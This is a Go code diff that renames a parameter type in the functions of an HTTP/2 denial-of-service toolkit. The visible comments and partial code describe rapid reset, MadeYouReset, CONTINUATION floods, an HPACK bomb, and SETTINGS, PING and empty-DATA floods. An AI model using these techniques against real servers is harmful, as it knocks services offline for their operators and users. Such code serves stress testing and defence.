@@ -18,7 +18,7 @@ const h2Batch = 64
 
 // rapidReset opens streams and cancels each at once: the server starts work for every
 // request and the attacker never waits for an answer.
-func rapidReset(ctx context.Context, t *Target, src netip.Addr, rec *Recorder) error {
+func rapidReset(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
 	return runH2(ctx, t, src, rec, func(h *h2Conn) (int, error) {
 		for i := range h2Batch {
 			id := h.stream()
@@ -37,7 +37,7 @@ func rapidReset(ctx context.Context, t *Target, src netip.Addr, rec *Recorder) e
 // madeYouReset sends requests followed by a frame that makes the server reset the
 // stream itself, in turn: WINDOW_UPDATE with increment 0, DATA after END_STREAM, and
 // PRIORITY making the stream depend on itself. No RST_STREAM comes from the client.
-func madeYouReset(ctx context.Context, t *Target, src netip.Addr, rec *Recorder) error {
+func madeYouReset(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
 	return runH2(ctx, t, src, rec, func(h *h2Conn) (int, error) {
 		for i := range h2Batch {
 			id := h.stream()
@@ -64,7 +64,7 @@ func madeYouReset(ctx context.Context, t *Target, src netip.Addr, rec *Recorder)
 
 // continuationFlood begins a header block and never ends it: zero-length
 // CONTINUATION frames without END_HEADERS, which add nothing to the block's size.
-func continuationFlood(ctx context.Context, t *Target, src netip.Addr, rec *Recorder) error {
+func continuationFlood(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
 	var id uint32
 	return runH2(ctx, t, src, rec, func(h *h2Conn) (int, error) {
 		if id == 0 {
@@ -95,7 +95,7 @@ const hpackBombRefs = 96
 // then refers to it again and again with one byte per reference. The references are
 // written as bytes: the encoder would hash the 4 KB value for each of them, and the
 // attack would measure the attacker's CPU.
-func hpackBomb(ctx context.Context, t *Target, src netip.Addr, rec *Recorder) error {
+func hpackBomb(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
 	bomb := hpack.HeaderField{Name: "x-bomb", Value: hpackBombValue}
 	refs := bytes.Repeat([]byte{0x80 | 62}, hpackBombRefs)
 	first := true
@@ -118,7 +118,7 @@ func hpackBomb(ctx context.Context, t *Target, src netip.Addr, rec *Recorder) er
 
 // settingsFlood sends SETTINGS frames, each of which the server must apply and
 // acknowledge.
-func settingsFlood(ctx context.Context, t *Target, src netip.Addr, rec *Recorder) error {
+func settingsFlood(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
 	return runH2(ctx, t, src, rec, func(h *h2Conn) (int, error) {
 		for i := range h2Batch {
 			if err := h.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + uint32(i)}); err != nil {
@@ -130,7 +130,7 @@ func settingsFlood(ctx context.Context, t *Target, src netip.Addr, rec *Recorder
 }
 
 // pingFlood sends PING frames, each of which the server must answer.
-func pingFlood(ctx context.Context, t *Target, src netip.Addr, rec *Recorder) error {
+func pingFlood(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
 	var data [8]byte
 	return runH2(ctx, t, src, rec, func(h *h2Conn) (int, error) {
 		for i := range h2Batch {
@@ -145,7 +145,7 @@ func pingFlood(ctx context.Context, t *Target, src netip.Addr, rec *Recorder) er
 
 // emptyFrames opens a POST and sends empty DATA frames on it that never end it: each
 // costs the server a frame's work and carries nothing.
-func emptyFrames(ctx context.Context, t *Target, src netip.Addr, rec *Recorder) error {
+func emptyFrames(ctx context.Context, t *Target, src netip.Addr, rec *recorder) error {
 	var id uint32
 	return runH2(ctx, t, src, rec, func(h *h2Conn) (int, error) {
 		if id == 0 {
